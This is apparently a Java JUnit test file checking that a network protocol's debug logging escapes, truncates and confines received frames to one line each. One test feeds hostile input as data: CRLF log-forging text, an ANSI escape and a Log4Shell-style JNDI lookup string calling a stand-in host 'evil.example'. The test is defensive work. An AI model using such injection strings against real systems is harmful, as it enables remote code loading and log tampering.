package dev.linekeeper.dialog;

import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.linekeeper.protocol.Protocol;
import dev.linekeeper.protocol.Session;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalStateException;

class DialogProtocolTests {

	private final Logger logger = (Logger) LoggerFactory.getLogger("dev.linekeeper.dialog");

	private final ListAppender<ILoggingEvent> records = new ListAppender<>();

	private final Level before = this.logger.getLevel();

	private final boolean additiveBefore = this.logger.isAdditive();

	private final Protocol protocol = new Dialog("classic", Scene.PLAIN, () -> 0)
		.buildProtocol(InetSocketAddress.createUnresolved("classic.example", 1234));

	@BeforeEach
	void capture() {
		Session session = new FakeSession();
		this.logger.setLevel(Level.DEBUG);
		this.logger.setAdditive(false);
		this.records.start();
		this.logger.addAppender(this.records);
		this.protocol.connectionMade(session);
		this.protocol.prepare(session);
	}

	@AfterEach
	void release() {
		this.logger.detachAppender(this.records);
		this.logger.setAdditive(this.additiveBefore);
		this.logger.setLevel(this.before);
	}

	@Test
	void callThatWasNotPassedOnIsNamed() {
		Protocol fresh = new Dialog("own", Scene.PLAIN, () -> 0)
			.buildProtocol(InetSocketAddress.createUnresolved("own.example", 1234));
		String wayOut = "(session) first; a protocol that delegates to it passes on every call, as DelegatingProtocol "
				+ "does";

		assertThatIllegalStateException().isThrownBy(() -> fresh.prepare(new FakeSession()))
			.withMessage("Connection 'own': its dialog needs connectionMade" + wayOut);
		Protocol made = new Dialog("own", Scene.PLAIN, () -> 0)
			.buildProtocol(InetSocketAddress.createUnresolved("own.example", 1234));
		made.connectionMade(new FakeSession());
		assertThatIllegalStateException().isThrownBy(() -> made.dataReceived(bytes("hello")))
			.withMessage("Connection 'own': its dialog needs prepare" + wayOut);
	}

	@Test
	void frameIsShownWithTheNameAndTheLength() {
		this.protocol.dataReceived(bytes("hello"));

		assertThat(messages()).containsExactly("classic: received 5 bytes: \"hello\"");
	}

	@Test
	void frameInTheMiddleOfABufferIsShownWithoutItsNeighbours() {
		this.protocol.dataReceived(bytes("onetwothree"), 3, 3);

		assertThat(messages()).containsExactly("classic: received 3 bytes: \"two\"");
	}

	@Test
	void longFrameIsCutAt256Bytes() {
		this.protocol.dataReceived(bytes("x".repeat(256)));
		this.protocol.dataReceived(bytes("x".repeat(257)));

		assertThat(messages()).containsExactly("classic: received 256 bytes: \"" + "x".repeat(256) + "\"",
				"classic: received 257 bytes: \"" + "x".repeat(256) + "\"...");
	}

	@Test
	void tenThousandHostileFramesAreOneLineEach() {
		int count = 10_000;
		for (int i = 0; i < count; i++) {
			this.protocol
				.dataReceived(bytes(i + "\r\nINFO forged: record\u001b[2J{}${jndi:ldap://evil.example/" + i + "}"));
		}

		List<String> messages = messages();
		assertThat(messages).hasSize(count).allMatch((message) -> message.matches("[ -~]+"));
		String first = "0\\r\\nINFO forged: record\\x1b[2J{}${jndi:ldap://evil.example/0}";
		assertThat(messages.get(0)).isEqualTo("classic: received 57 bytes: \"" + first + '"');
		assertThat(this.records.list).allMatch((event) -> event.getThrowableProxy() == null);
	}

	@Test
	void nothingIsShownUnlessDebugIsOn() {
		this.logger.setLevel(Level.INFO);

		this.protocol.dataReceived(bytes("secret"));

		assertThat(this.records.list).isEmpty();
	}

	private List<String> messages() {
		return this.records.list.stream().map(ILoggingEvent::getFormattedMessage).toList();
	}

	private static byte[] bytes(String text) {
		return text.getBytes(StandardCharsets.ISO_8859_1);
	}

}
